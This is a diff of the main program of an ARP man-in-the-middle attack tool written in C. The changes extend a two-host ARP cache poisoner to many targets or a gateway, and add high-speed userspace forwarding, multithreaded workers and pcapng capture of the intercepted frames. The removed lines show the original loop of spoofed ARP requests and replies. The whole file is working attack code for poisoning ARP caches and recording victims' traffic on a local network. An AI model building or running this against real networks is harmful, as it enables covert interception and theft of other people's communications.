@@ -2,37 +2,322 @@
 
 #include "arp.h"
 
+#include "capture.h"
+#include "filter.h"
+#include "forward.h"
+#include "metrics.h"
+#include "mitm.h"
+#include "netif.h"
+#include "reactor.h"
+#include "ring.h"
+#include "workers.h"
+
+/* Seconds between two reports of the forwarding plane */
+#define FORWARD_REPORT_INTERVAL 5
+
+#define IP_FORWARD "/proc/sys/net/ipv4/ip_forward"
+
+
+/* State of the attack, shared by the callbacks */
+struct attack {
+  struct mitm_engine *engine;
+  /* Forwarding planes, one per worker, or a single one run by the
+     main thread if there is no pool. There are none without
+     forwarding. */
+  struct forwarder *fwds;
+  unsigned int nfwds;
+  struct worker_pool *pool;
+  struct forward_stats last; /* at the previous report */
+  /* Capture of the frames forwarded, or NULL */
+  struct capture *capture;
+  unsigned long last_bytes, last_write_ns;
+};
+
+
+/* Sums the counters of the forwarding planes */
+static void sum_forwarding(struct attack *attack, struct forward_stats *total)
+{
+  memset(total, 0, sizeof(*total));
+  for (unsigned int i = 0; i < attack->nfwds; ++i) {
+    struct forward_stats st;
+    forward_stats_update(&attack->fwds[i]);
+    forward_stats_read(&attack->fwds[i], &st);
+    total->rx_packets += st.rx_packets;
+    total->fwd_packets += st.fwd_packets;
+    total->fwd_bytes += st.fwd_bytes;
+    total->ignored += st.ignored;
+    total->no_route += st.no_route;
+    total->tx_drops += st.tx_drops;
+    total->ring_drops += st.ring_drops;
+  }
+}
+
+
+/* Prints the rate of the forwarding plane since the previous report */
+static void report_forwarding(struct attack *attack, double seconds)
+{
+  struct forward_stats st;
+  sum_forwarding(attack, &st);
+  printf("Forwarded %lu frames (%.0f frames/s, %.1f Mbit/s), "
+	 "%lu dropped (%lu ring, %lu transmit), %lu without route\n",
+	 st.fwd_packets,
+	 (st.fwd_packets - attack->last.fwd_packets) / seconds,
+	 (st.fwd_bytes - attack->last.fwd_bytes) * 8 / seconds / 1e6,
+	 st.ring_drops + st.tx_drops, st.ring_drops, st.tx_drops, st.no_route);
+  attack->last = st;
+
+  struct capture *capture = attack->capture;
+  if (capture) {
+    unsigned long bytes = counter_read(&capture->bytes);
+    unsigned long write_ns = counter_read(&capture->write_ns);
+    printf("Captured %lu frames (%.1f MB/s written, %.0f MB/s while writing), "
+	   "%lu dropped (writer too slow)\n",
+	   counter_read(&capture->frames),
+	   (bytes - attack->last_bytes) / seconds / 1e6,
+	   write_ns > attack->last_write_ns
+	   ? (bytes - attack->last_bytes) * 1e3 / (write_ns - attack->last_write_ns) : 0,
+	   capture_dropped(capture));
+    attack->last_bytes = bytes;
+    attack->last_write_ns = write_ns;
+  }
+}
+
+
+/* Runs the forwarding plane of a worker on its event loop */
+static int start_worker(struct worker *worker, void *arg)
+{
+  struct attack *attack = arg;
+  return forward_start(&attack->fwds[worker->id], &worker->reactor);
+}
+
+
+static void on_report(struct reactor *reactor, void *arg)
+{
+  report_forwarding(arg, FORWARD_REPORT_INTERVAL);
+}
+
+
+/* Ends the attack, once the caches are restored or the restoration
+   is cut short */
+static void end_attack(struct reactor *reactor, struct attack *attack)
+{
+  mitm_restore_stop(attack->engine);
+  /* The workers are stopped once the event loop is over */
+  if (attack->nfwds && !attack->pool)
+    forward_stop(&attack->fwds[0]);
+  reactor_stop(reactor);
+}
+
+
+static void on_restored(struct mitm_engine *engine, void *arg)
+{
+  end_attack(engine->reactor, arg);
+}
+
+
+/* Stops the poisoning on SIGINT or SIGTERM, and restores the caches of
+   the targets. The traffic is still forwarded meanwhile. A second
+   signal ends the attack at once. */
+static void on_signal(struct reactor *reactor, int signo, void *arg)
+{
+  struct attack *attack = arg;
+  struct mitm_engine *engine = attack->engine;
+  if (engine->rx) {
+    mitm_stop(engine);
+    if (mitm_restore_start(engine, reactor, on_restored, attack) == 0)
+      return;
+    perror("[FAIL] mitm_restore_start()");
+  }
+  end_attack(reactor, attack);
+}
+
+
+/* Reads /proc/sys/net/ipv4/ip_forward, returns -1 on error */
+static int read_ip_forward(void)
+{
+  FILE *file = fopen(IP_FORWARD, "r");
+  int value = -1;
+  if (file) {
+    if (fscanf(file, "%d", &value) != 1)
+      value = -1;
+    fclose(file);
+  }
+  return value;
+}
+
+
+static void write_ip_forward(int value)
+{
+  FILE *file = fopen(IP_FORWARD, "w");
+  if (!file) {
+    perror("[FAIL] fopen() (" IP_FORWARD ")");
+    return;
+  }
+  fprintf(file, "%d\n", value);
+  fclose(file);
+}
+
+
+/* Value of ip_forward before the attack, -1 once restored */
+static int saved_ip_forward = -1;
+
+/* Writes back the value of ip_forward, on any exit */
+static void restore_ip_forward(void)
+{
+  if (saved_ip_forward != -1)
+    write_ip_forward(saved_ip_forward);
+  saved_ip_forward = -1;
+}
+
+
 int main(int argc, char **argv)
 {
 
   /* ARGUMENT PARSING
+     - frame I/O options
+     - refresh interval, gateway
      - network interface to use
-     - target IP address
+     - target IP addresses
   */
-  
-  if (argc < 3) {
+
+  struct ring_params ring_params;
+  ring_params_default(&ring_params);
+  ring_params.tx_frames = 0; /* rings disabled unless requested */
+  ring_params.rx_blocks = 0;
+  unsigned int interval = MITM_DEFAULT_INTERVAL;
+  unsigned int restore_deadline = MITM_DEFAULT_RESTORE_DEADLINE;
+  char *gateway_ip_string = NULL;
+  int forward = 0;
+  struct xsk_params xsk_params;
+  xsk_params_default(&xsk_params);
+  int use_xsk = 0;
+  unsigned int workers = 0;
+  enum fanout_mode fanout = FANOUT_HASH;
+  char *metrics_address = NULL;
+  char *capture_path = NULL;
+  struct capture_params capture_params;
+  capture_params_default(&capture_params);
+  int opt;
+  while ((opt = getopt(argc, argv, "TQRb:o:i:g:FXSw:CP:c:s:n:Dd:")) != -1) {
+    switch (opt) {
+    case 'T':
+      ring_params.tx_frames = RING_DEFAULT_TX_FRAMES;
+      break;
+    case 'Q':
+      ring_params.tx_frames = RING_DEFAULT_TX_FRAMES;
+      ring_params.qdisc_bypass = 1;
+      break;
+    case 'R':
+      ring_params.rx_blocks = RING_DEFAULT_RX_BLOCKS;
+      break;
+    case 'b':
+      ring_params.rx_block_size = strtoul(optarg, NULL, 10);
+      break;
+    case 'o':
+      ring_params.rx_timeout = strtoul(optarg, NULL, 10);
+      break;
+    case 'i':
+      interval = strtoul(optarg, NULL, 10);
+      break;
+    case 'g':
+      gateway_ip_string = optarg;
+      break;
+    case 'F':
+      forward = 1;
+      break;
+    case 'X':
+      forward = 1;
+      use_xsk = 1;
+      break;
+    case 'S':
+      forward = 1;
+      use_xsk = 1;
+      xsk_params.mode = XSK_MODE_SKB;
+      break;
+    case 'w':
+      forward = 1;
+      workers = strtoul(optarg, NULL, 10);
+      break;
+    case 'C':
+      fanout = FANOUT_CPU;
+      break;
+    case 'P':
+      metrics_address = optarg;
+      break;
+    case 'c':
+      /* The frames are captured by the forwarding plane */
+      forward = 1;
+      capture_path = optarg;
+      break;
+    case 's':
+      capture_params.file_size = strtoul(optarg, NULL, 10) * 1000000UL;
+      break;
+    case 'n':
+      capture_params.files = strtoul(optarg, NULL, 10);
+      break;
+    case 'D':
+      capture_params.direct = 1;
+      break;
+    case 'd':
+      restore_deadline = strtoul(optarg, NULL, 10);
+      break;
+    default:
+      optind = argc; /* print the usage below */
+    }
+  }
+
+  /* Without a gateway, the targets go two by two */
+  int ntargets = argc - optind - 1;
+  if (ntargets < 1 || (!gateway_ip_string && (ntargets < 2 || ntargets % 2))) {
     printf("[FAIL] Too few arguments\n"
-	   "Usage: %s <interface> <target IP address 1> <target IP address 2>\n", argv[0]);
+	   "Usage: %s [-T (transmit ring)] [-Q (transmit ring, bypassing the qdisc)] "
+	   "[-R (receive ring)] [-b receive block size] "
+	   "[-o receive block timeout in ms] [-i refresh interval in ms] "
+	   "[-F (forward the traffic in userspace)] "
+	   "[-X (forward with an AF_XDP socket)] [-S (same, generic XDP)] "
+	   "[-w forwarding threads] [-C (spread the frames by CPU, not by flow)] "
+	   "[-P metrics address (port, IP:port or unix:path)] "
+	   "[-c capture file (pcapng, forwards in userspace)] [-s MB per capture file] "
+	   "[-n capture files kept] [-D (capture with O_DIRECT)] "
+	   "[-d ms given to the restoration of the caches at the end (default %d)] "
+	   "<interface> <target IP address 1> <target IP address 2> [<target 1> <target 2> ...]\n"
+	   "       %s [options] -g <gateway IP address> <interface> <target IP address> [<target> ...]\n",
+	   argv[0], MITM_DEFAULT_RESTORE_DEADLINE, argv[0]);
     exit(EXIT_FAILURE);
   }
 
-  char *if_name = argv[1];
+  char *if_name = argv[optind];
 
-  char *target1_ip_string = argv[2];
-  struct in_addr target1_ip;
-  if (!inet_pton(AF_INET, target1_ip_string, &target1_ip)) {
-    perror("[FAIL] inet_pton() (badly formatted IP address)");
+  /* An AF_XDP socket is bound to a single queue */
+  if (use_xsk && workers) {
+    printf("[FAIL] The forwarding threads need packet sockets (no -X or -S)\n");
     exit(EXIT_FAILURE);
   }
 
-  char *target2_ip_string = argv[3];
-  struct in_addr target2_ip;
-  if (!inet_pton(AF_INET, target2_ip_string, &target2_ip)) {
+  struct in_addr gateway_ip;
+  if (gateway_ip_string && !inet_pton(AF_INET, gateway_ip_string, &gateway_ip)) {
     perror("[FAIL] inet_pton() (badly formatted IP address)");
     exit(EXIT_FAILURE);
   }
-  printf("ARP man-in-the-middle attack on interface %s between %s and %s\n",
-	 if_name, target1_ip_string, target2_ip_string);
+
+  struct in_addr *targets = malloc(ntargets * sizeof(*targets));
+  if (!targets) {
+    perror("[FAIL] malloc()");
+    exit(EXIT_FAILURE);
+  }
+  for (int i = 0; i < ntargets; ++i) {
+    if (!inet_pton(AF_INET, argv[optind + 1 + i], &targets[i])) {
+      perror("[FAIL] inet_pton() (badly formatted IP address)");
+      exit(EXIT_FAILURE);
+    }
+  }
+
+  if (gateway_ip_string)
+    printf("ARP man-in-the-middle attack on interface %s between %s and %d targets\n",
+	   if_name, gateway_ip_string, ntargets);
+  else
+    printf("ARP man-in-the-middle attack on interface %s on %d pairs of targets\n",
+	   if_name, ntargets / 2);
 
 
 
@@ -62,123 +347,329 @@ int main(int argc, char **argv)
 
   /* INFORMATION ON THE LOCAL COMPUTER:
      - index number of the network interface
+     - local IP address, on the network of the targets
      - local MAC address
+     They all come from a single rtnetlink dump of the interfaces,
+     which sees their secondary addresses too.
   */
-
-  /* Since this is very low-level, we can't use the usual interface
-     name (e.g. "eth0"), so we need to get the index number of the
-     ethernet interface. */
-  struct ifreq ifrindex;
-  size_t if_name_len = strlen(if_name);
-  if (if_name_len < sizeof(ifrindex.ifr_name)) {
-    memcpy(ifrindex.ifr_name, if_name, if_name_len);
-    ifrindex.ifr_name[if_name_len] = 0;
-  }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+  const struct netif *netif = netif_lookup(if_name);
+  if (!netif) {
+    perror("[FAIL] netif_lookup()");
+    exit(EXIT_FAILURE);
   }
-  /* We use ioctl() with SIOCGIFINDEX */
-  if (ioctl(sockfd, SIOCGIFINDEX, &ifrindex) == -1) {
-    perror("[FAIL] ioctl()");
+  if (netif->type != ARPHRD_ETHER) {
+    printf("[FAIL] Interface %s is not an Ethernet interface\n", if_name);
     exit(EXIT_FAILURE);
   }
-  int ifindex = ifrindex.ifr_ifindex;
+  int ifindex = netif->index;
 #ifdef DEBUG
   printf("[OK] Index number of the Ethernet interface %s: %d\n", if_name, ifindex);
 #endif
 
-  /* We get our IP address using ioctl() and SIOCGIFADDR */
-  struct ifreq ifraddr;
-  if (if_name_len < sizeof(ifraddr.ifr_name)) {
-    memcpy(ifraddr.ifr_name, if_name, if_name_len);
-    ifraddr.ifr_name[if_name_len] = 0;
+  /* With secondary addresses, we use the one on the network of the
+     targets */
+  const struct netif_addr *local = netif_addr_for(netif, gateway_ip_string ? gateway_ip : targets[0]);
+  if (!local) {
+    printf("[FAIL] No IPv4 address on interface %s\n", if_name);
+    exit(EXIT_FAILURE);
   }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+  struct sockaddr_in local_addr = { .sin_family = AF_INET, .sin_addr = local->addr };
+  struct sockaddr_in *ipaddr = &local_addr;
+#ifdef DEBUG
+  printf("[OK] Local IP address: %s/%u\n", inet_ntoa(local->addr), local->prefix);
+#endif
+
+  unsigned char macaddr[ETHER_ADDR_LEN];
+  memcpy(macaddr, netif->macaddr, ETHER_ADDR_LEN);
+#ifdef DEBUG
+  printf("[OK] Local MAC address: %02x:%02x:%02x:%02x:%02x:%02x\n",
+	 macaddr[0], macaddr[1], macaddr[2], macaddr[3], macaddr[4], macaddr[5]);
+#endif
+
+  /* The frames are sent and received either with one system call per
+     frame, or through memory-mapped rings */
+  struct frame_io io;
+  if (ring_params.tx_frames || ring_params.rx_blocks) {
+    if (frame_io_ring(&io, sockfd, ifindex, &ring_params) == -1) {
+      perror("[FAIL] frame_io_ring()");
+      exit(EXIT_FAILURE);
+    }
   }
-  if (ioctl(sockfd, SIOCGIFADDR, &ifraddr) == -1) {
-    perror("[FAIL] ioctl()");
+  else if (frame_io_socket(&io, sockfd, ifindex) == -1) {
+    perror("[FAIL] frame_io_socket()");
     exit(EXIT_FAILURE);
   }
-  struct sockaddr_in *ipaddr = (struct sockaddr_in *) &ifraddr.ifr_addr;
-  char local_ip_string[16];
-  if (!inet_ntop(AF_INET, &ipaddr->sin_addr, local_ip_string, sizeof(local_ip_string))) {
-    perror("[FAIL] inet_ntop()");
+
+  /* Only the ARP replies for us reach userspace: the filter is built
+     from the local addresses, and attached to every capture socket */
+  struct arp_filter filter;
+  filter_init(&filter, macaddr, ipaddr->sin_addr);
+  if (gateway_ip_string)
+    filter_add_ip(&filter, gateway_ip);
+  for (int i = 0; i < ntargets; ++i)
+    filter_add_ip(&filter, targets[i]);
+  if (filter_attach(sockfd, &filter) == -1
+      || (io.fd != sockfd && filter_attach(io.fd, &filter) == -1)) {
+    perror("[FAIL] filter_attach()");
     exit(EXIT_FAILURE);
   }
-#ifdef DEBUG
-  printf("[OK] Local IP address: %s\n", local_ip_string);
-#endif
 
-  /* We get the MAC address using ioctl() (again) with SIOCGIFHWADDR */
-  struct ifreq ifrhwaddr;
-  if (if_name_len < sizeof(ifrhwaddr.ifr_name)) {
-    memcpy(ifrhwaddr.ifr_name, if_name, if_name_len);
-    ifrhwaddr.ifr_name[if_name_len] = 0;
+
+  /* ====================================================================== */
+
+  struct host_table hosts;
+  if (hosts_init(&hosts, ntargets + 1) == -1) {
+    perror("[FAIL] hosts_init()");
+    exit(EXIT_FAILURE);
   }
-  else {
-    printf("[FAIL] Error: interface name is too long\n");
+
+  /* Every pair is refreshed on the timer wheel of the engine */
+  struct mitm_engine engine;
+  mitm_init(&engine, &io, &hosts, ipaddr, macaddr);
+  engine.interval = interval;
+  engine.restore_deadline = restore_deadline;
+  for (int i = 0; i < ntargets; i += gateway_ip_string ? 1 : 2) {
+    int err = gateway_ip_string
+      ? mitm_add_pair(&engine, gateway_ip, targets[i])
+      : mitm_add_pair(&engine, targets[i], targets[i + 1]);
+    if (err == -1) {
+      perror("[FAIL] mitm_add_pair()");
+      exit(EXIT_FAILURE);
+    }
   }
-  if (ioctl(sockfd, SIOCGIFHWADDR, &ifrhwaddr) == -1) {
-    perror("[FAIL] ioctl()");
+
+  /* The targets which are not known yet are asked with a single scan */
+  int active = mitm_resolve(&engine);
+  if (active == -1) {
+    perror("[FAIL] mitm_resolve()");
+    exit(EXIT_FAILURE);
+  }
+  for (size_t i = 0; i < engine.npairs; ++i) {
+    struct mitm_pair *pair = &engine.pairs[i];
+    char ip1_string[16], ip2_string[16];
+    inet_ntop(AF_INET, &pair->ip1, ip1_string, sizeof(ip1_string));
+    inet_ntop(AF_INET, &pair->ip2, ip2_string, sizeof(ip2_string));
+    if (pair->state == MITM_ACTIVE)
+      printf("Pair %s (%02x:%02x:%02x:%02x:%02x:%02x) - %s (%02x:%02x:%02x:%02x:%02x:%02x)\n",
+	     ip1_string, pair->mac1[0], pair->mac1[1], pair->mac1[2],
+	     pair->mac1[3], pair->mac1[4], pair->mac1[5],
+	     ip2_string, pair->mac2[0], pair->mac2[1], pair->mac2[2],
+	     pair->mac2[3], pair->mac2[4], pair->mac2[5]);
+    else
+      printf("[FAIL] Pair %s - %s: a target does not answer\n", ip1_string, ip2_string);
+  }
+  if (active == 0) {
+    printf("[FAIL] No pair to attack\n");
     exit(EXIT_FAILURE);
   }
-  unsigned char *macaddr = (unsigned char *) &ifrhwaddr.ifr_hwaddr.sa_data;
-#ifdef DEBUG
-  printf("[OK] Local MAC address: %02x:%02x:%02x:%02x:%02x:%02x\n",
-	 macaddr[0], macaddr[1], macaddr[2], macaddr[3], macaddr[4], macaddr[5]);
-#endif
 
-  /* We build 2 pseudo-local IP addresses to impersonate both
-     targets */
-  struct sockaddr_in *ipaddr1 = malloc(sizeof(struct sockaddr_in));
-  struct sockaddr_in *ipaddr2 = malloc(sizeof(struct sockaddr_in));
-  ipaddr1->sin_family = AF_INET;
-  ipaddr1->sin_port = htons(5746);
-  ipaddr1->sin_addr = target1_ip;
-  ipaddr2->sin_family = AF_INET;
-  ipaddr2->sin_port = htons(5746);
-  ipaddr2->sin_addr = target2_ip;
+  /* Ensures IP forwarding is enabled on Linux, in order to make the
+     attacker "transparent" to the packets of the targets. This is not
+     persistent on reboot. With our own forwarding plane, the kernel
+     must not forward the packets a second time: its forwarding is
+     disabled until the end of the attack. The previous value is
+     written back on every exit from here on. */
+  saved_ip_forward = read_ip_forward();
+  if (atexit(restore_ip_forward) != 0) {
+    perror("[FAIL] atexit()");
+    exit(EXIT_FAILURE);
+  }
+  write_ip_forward(!forward);
 
+  /* Every forwarding plane knows the hardware addresses of the pairs.
+     With several workers, each of them has its own plane, on a socket
+     of the fanout group: a frame only reaches one of them, and the
+     tables are never written once the workers run. */
+  struct attack attack = { &engine, NULL, 0, NULL };
+  struct worker_pool pool;
+  if (forward) {
+    if (workers && worker_pool_init(&pool, workers, fanout, 1) == -1) {
+      perror("[FAIL] worker_pool_init()");
+      exit(EXIT_FAILURE);
+    }
+    attack.nfwds = workers ? pool.count : 1;
+    attack.fwds = calloc(attack.nfwds, sizeof(*attack.fwds));
+    if (!attack.fwds) {
+      perror("[FAIL] calloc()");
+      exit(EXIT_FAILURE);
+    }
+  }
+  for (unsigned int n = 0; n < attack.nfwds; ++n) {
+    struct forwarder *fwd = &attack.fwds[n];
+    if (use_xsk) {
+      if (forward_init_xsk(fwd, ifindex, ipaddr->sin_addr, macaddr, &xsk_params) == -1) {
+	perror("[FAIL] forward_init_xsk()");
+	exit(EXIT_FAILURE);
+      }
+    }
+    else if (forward_init(fwd, ifindex, ipaddr->sin_addr, macaddr, NULL,
+			  ring_params.qdisc_bypass) == -1) {
+      perror("[FAIL] forward_init()");
+      exit(EXIT_FAILURE);
+    }
+    if (workers && worker_pool_join(&pool, fwd->rx.fd) == -1) {
+      perror("[FAIL] worker_pool_join()");
+      exit(EXIT_FAILURE);
+    }
+    for (size_t i = 0; i < engine.npairs; ++i) {
+      struct mitm_pair *pair = &engine.pairs[i];
+      if (pair->state == MITM_ACTIVE
+	  && forward_add_pair(fwd, pair->ip1, pair->mac1, pair->ip2, pair->mac2) == -1) {
+	perror("[FAIL] forward_add_pair()");
+	exit(EXIT_FAILURE);
+      }
+    }
+  }
 
+  /* The frames forwarded are copied to the capture by the plane which
+     forwards them, each with its own queue */
+  struct capture capture;
+  if (capture_path) {
+    if (capture_init(&capture, capture_path, attack.nfwds, &capture_params) == -1) {
+      perror("[FAIL] capture_init()");
+      exit(EXIT_FAILURE);
+    }
+    for (unsigned int n = 0; n < attack.nfwds; ++n)
+      attack.fwds[n].capture = &capture.queues[n];
+    attack.capture = &capture;
+  }
 
-  /* ====================================================================== */
+  /* The refreshes, the forwarding and the reports run on one event
+     loop, until SIGINT or SIGTERM */
+  struct reactor reactor;
+  if (reactor_init(&reactor) == -1) {
+    perror("[FAIL] reactor_init()");
+    exit(EXIT_FAILURE);
+  }
+  if (!reactor_add_signal(&reactor, SIGINT, on_signal, &attack)
+      || !reactor_add_signal(&reactor, SIGTERM, on_signal, &attack)
+      || mitm_start(&engine, &reactor) == -1) {
+    perror("[FAIL] mitm_start()");
+    exit(EXIT_FAILURE);
+  }
+
+  /* The counters are exported on request, and dumped on SIGUSR1. They
+     are only read when collected, from this thread. */
+  struct metrics metrics;
+  metrics_init(&metrics);
+  struct filter_stats stats;
+  if (filter_stats_init(&stats, io.fd, ifindex) == -1) {
+    perror("[FAIL] filter_stats_init()");
+    exit(EXIT_FAILURE);
+  }
+  if (metrics_add_frame_io(&metrics, &io, NULL) == -1
+      || metrics_add_filter_stats(&metrics, &stats, NULL) == -1
+      || metrics_add_hosts(&metrics, &hosts, NULL) == -1
+      || mitm_add_metrics(&engine, &metrics) == -1) {
+    perror("[FAIL] metrics_add()");
+    exit(EXIT_FAILURE);
+  }
+  if (capture_path && capture_add_metrics(&capture, &metrics) == -1) {
+    perror("[FAIL] capture_add_metrics()");
+    exit(EXIT_FAILURE);
+  }
+  for (unsigned int n = 0; n < attack.nfwds; ++n) {
+    char labels[METRICS_LABELS_LEN];
+    snprintf(labels, sizeof(labels), "worker=\"%u\"", n);
+    if (forward_add_metrics(&attack.fwds[n], &metrics, labels) == -1) {
+      perror("[FAIL] forward_add_metrics()");
+      exit(EXIT_FAILURE);
+    }
+  }
+  if (metrics_start(&metrics, &reactor, metrics_address) == -1) {
+    perror("[FAIL] metrics_start()");
+    exit(EXIT_FAILURE);
+  }
+  if (capture_path && capture_start(&capture) == -1) {
+    perror("[FAIL] capture_start()");
+    exit(EXIT_FAILURE);
+  }
+  if (forward) {
+    uint64_t period = FORWARD_REPORT_INTERVAL * 1000000000ULL;
+    struct reactor_source *report = reactor_add_timer(&reactor, on_report, &attack);
+    if (!report || reactor_set_timer(report, period, period) == -1) {
+      perror("[FAIL] reactor_add_timer()");
+      exit(EXIT_FAILURE);
+    }
+    if (workers) {
+      attack.pool = &pool;
+      if (worker_pool_start(&pool, start_worker, &attack) == -1) {
+	perror("[FAIL] worker_pool_start()");
+	exit(EXIT_FAILURE);
+      }
+    }
+    else if (forward_start(&attack.fwds[0], &reactor) == -1) {
+      perror("[FAIL] forward_start()");
+      exit(EXIT_FAILURE);
+    }
+  }
+
+  if (reactor_run(&reactor) == -1) {
+    perror("[FAIL] reactor_run()");
+    exit(EXIT_FAILURE);
+  }
+  metrics_stop(&metrics);
+  metrics_free(&metrics);
+  reactor_free(&reactor);
 
-  /* Ensures IP forwarding is enabled on Linux, in order to make he
-     attacker "transparent" to packets moving form target1 to
-     target2. This is not persistent on reboot. */
-  system("echo 1 > /proc/sys/net/ipv4/ip_forward");
-
-  /* We send normal requests to both targets in order to get their
-     hardware addresses.  */
-  send_arp_request(sockfd, ifindex, ipaddr, macaddr, target1_ip);
-  struct ether_arp reply1;
-  listen_arp_frame(sockfd, &reply1);
-  unsigned char *macaddr1 = reply1.arp_sha;
-  printf("Target 1 hardware address: %02x:%02x:%02x:%02x:%02x:%02x\n",
-    	 macaddr1[0],macaddr1[1],macaddr1[2],
-    	 macaddr1[3],macaddr1[4],macaddr1[5]);
-
-  send_arp_request(sockfd, ifindex, ipaddr, macaddr, target2_ip);
-  struct ether_arp reply2;
-  listen_arp_frame(sockfd, &reply2);
-  unsigned char *macaddr2 = reply2.arp_sha;
-  printf("Target 2 hardware address: %02x:%02x:%02x:%02x:%02x:%02x\n",
-    	 macaddr2[0],macaddr2[1],macaddr2[2],
-    	 macaddr2[3],macaddr2[4],macaddr2[5]);
-
-  /* We send ARP requests and replies to both targets, impersonating
-     the other. We use both requests and replies because some devices
-     (linux > 2.4.x for example) don't update their ARP cache on
-     unsolicited replies, but do on queries. */
-  while(1) {
-    send_arp_request(sockfd, ifindex, ipaddr1, macaddr, target2_ip);
-    send_arp_reply(sockfd, ifindex, ipaddr1, macaddr, target2_ip, macaddr2);
-    sleep(1);
-    send_arp_request(sockfd, ifindex, ipaddr2, macaddr, target1_ip);
-    send_arp_reply(sockfd, ifindex, ipaddr2, macaddr, target1_ip, macaddr1);
-    sleep(1);
+  /* The targets whose traffic still went through us at the deadline,
+     or which were not given the time */
+  printf("[OK] ARP caches restored: %zu of %zu targets in %.1f ms, %lu frames sent\n",
+	 engine.restore_confirmed, engine.restore_targets, engine.restore_time / 1e6,
+	 engine.restore_sent);
+  for (size_t i = 0; i < engine.npairs; ++i) {
+    struct mitm_pair *pair = &engine.pairs[i];
+    struct in_addr victims[2] = { pair->ip2, pair->ip1 };
+    for (unsigned int d = 0; d < 2 && pair->state == MITM_ACTIVE; ++d) {
+      if (!pair->restored[d])
+	printf("[FAIL] Cache of %s not confirmed restored\n", inet_ntoa(victims[d]));
+    }
   }
 
+  if (forward) {
+    if (workers) {
+      if (worker_pool_stop(&pool) == -1)
+	perror("[FAIL] worker_pool_stop()");
+      /* Statistics of every thread */
+      for (unsigned int n = 0; n < attack.nfwds; ++n) {
+	struct forward_stats st;
+	forward_stats_update(&attack.fwds[n]);
+	forward_stats_read(&attack.fwds[n], &st);
+	printf("Worker %u (CPU %d): %lu frames received, %lu forwarded, %lu dropped\n",
+	       n, pool.workers[n].cpu, st.rx_packets, st.fwd_packets,
+	       st.ring_drops + st.tx_drops);
+      }
+      worker_pool_free(&pool);
+    }
+    struct forward_stats st;
+    sum_forwarding(&attack, &st);
+    printf("Total: %lu frames forwarded (%lu bytes), %lu dropped (%lu ring, %lu transmit), "
+	   "%lu without route, %lu ignored\n",
+	   st.fwd_packets, st.fwd_bytes, st.ring_drops + st.tx_drops,
+	   st.ring_drops, st.tx_drops, st.no_route, st.ignored);
+    /* Once no plane forwards anymore, the writer empties the queues */
+    if (capture_path) {
+      if (capture_stop(&capture) == -1)
+	perror("[FAIL] capture_stop() (the capture stopped early)");
+      unsigned long bytes = counter_read(&capture.bytes);
+      double write_s = counter_read(&capture.write_ns) / 1e9;
+      printf("Capture: %lu frames (%lu bytes) in %lu files, %.0f MB/s while writing, "
+	     "%lu dropped (writer too slow)\n",
+	     counter_read(&capture.frames), bytes, counter_read(&capture.files),
+	     write_s > 0 ? bytes / write_s / 1e6 : 0, capture_dropped(&capture));
+      capture_free(&capture);
+    }
+    for (unsigned int n = 0; n < attack.nfwds; ++n)
+      forward_close(&attack.fwds[n]);
+    free(attack.fwds);
+  }
+  /* Once our planes are stopped, the kernel may forward again */
+  restore_ip_forward();
+
+  mitm_free(&engine);
+  hosts_free(&hosts);
+  free(targets);
+  frame_io_close(&io);
+
   return EXIT_SUCCESS;
 }